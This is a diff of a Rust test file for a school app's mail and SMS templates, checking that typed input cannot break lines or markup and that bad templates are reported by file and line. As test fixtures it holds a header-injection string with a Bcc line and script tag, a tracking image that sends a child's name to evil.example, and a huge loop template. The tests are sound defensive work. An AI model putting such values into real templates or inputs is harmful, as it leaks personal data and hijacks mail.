@@ -95,7 +95,6 @@ fn news_of_changed_words_goes_in_ours() {
     let folder = tempfile::tempdir().unwrap();
     let files = [
         ("mail/settings_changed.en.txt", "Subject: All is well\n\n{{ greeting }}\n"),
-        ("mail/settings_changed.en.html", "<p>All is well</p>"),
         ("mail/sessions_ended.en.txt", "Subject: All is well\n\n{{ person }} {{ count }}\n"),
     ];
     let (_registry, school) = school(folder.path(), &files);
@@ -123,8 +122,8 @@ fn a_text_message_lets_the_phone_fill_the_code_in() {
 #[test]
 fn what_people_typed_breaks_no_line_and_no_markup_and_advertises_nothing() {
     let folder = tempfile::tempdir().unwrap();
-    let own = "<p>{{ greeting }} {{ person }} {{ school }}</p>";
-    let (_registry, school) = school(folder.path(), &[("mail/erasure_requested.en.html", own)]);
+    let own = "Subject: Erasure\n\n{{ greeting }} {{ person }} {{ school }}\n\nWhat they wrote: {{ reason }}\n";
+    let (_registry, school) = school(folder.path(), &[("mail/erasure_requested.en.txt", own)]);
     let evil = params(json!({ "person": "Eve\r\nBcc: x@y.z <script>", "reason": "{{ school }}" }));
     let mail = render(&school, ORIGIN, &message("erasure_requested", Channel::Mail, Language::En, evil)).unwrap();
     assert!(!mail.text.contains("\nBcc") && !mail.subject.contains('\n'), "{}", mail.text);
@@ -179,8 +178,8 @@ fn the_check_names_file_and_line() {
     let own = [
         ("mail/code.en.txt", "Subject: A\n\n{{ code }}\n{{ cod }}\n"),
         ("mail/code.ar.txt", "no subject\n\n{{ code }}\n"),
-        ("mail/tracking.en.html", "<p>\n{% if child %}\n"),
-        ("mail/tracking.ar.html", "<p>{{ child|upper }}</p>"),
+        ("mail/tracking.en.html", "<img src=\"https://evil.example/{{ child }}\">"),
+        ("mail/tracking.ar.txt", "Subject: A\n\n{{ child|upper }}\n"),
         ("mail/welcome.en.txt", "Subject: A\n\nB\n"),
         ("sms/invitation.en.txt", "A"),
         ("mail/verify_email.en.txt", "Subject: A\n\n{{ url }} {% for x in range(9999999) %}{{ x }}{% endfor %}\n"),
@@ -191,11 +190,7 @@ fn the_check_names_file_and_line() {
     let found: Vec<(&str, u32, &str)> = all["a"].iter().map(|d| (d.file.as_str(), d.line, d.code)).collect();
     assert!(found.contains(&("a/mail/code.en.txt", 4, "badTemplate")), "{found:?}");
     assert!(found.contains(&("a/mail/code.ar.txt", 1, "badTemplate")), "{found:?}");
-    assert!(
-        found
-            .iter()
-            .any(|(file, line, code)| *file == "a/mail/tracking.en.html" && *line >= 2 && *code == "badTemplate")
-    );
+    assert!(found.contains(&("a/mail/tracking.en.html", 1, "unknownTemplate")), "no pages: {found:?}");
     assert!(found.contains(&("a/mail/welcome.en.txt", 1, "unknownTemplate")), "{found:?}");
     assert!(found.contains(&("a/sms/invitation.en.txt", 1, "unknownTemplate")), "{found:?}");
     assert!(
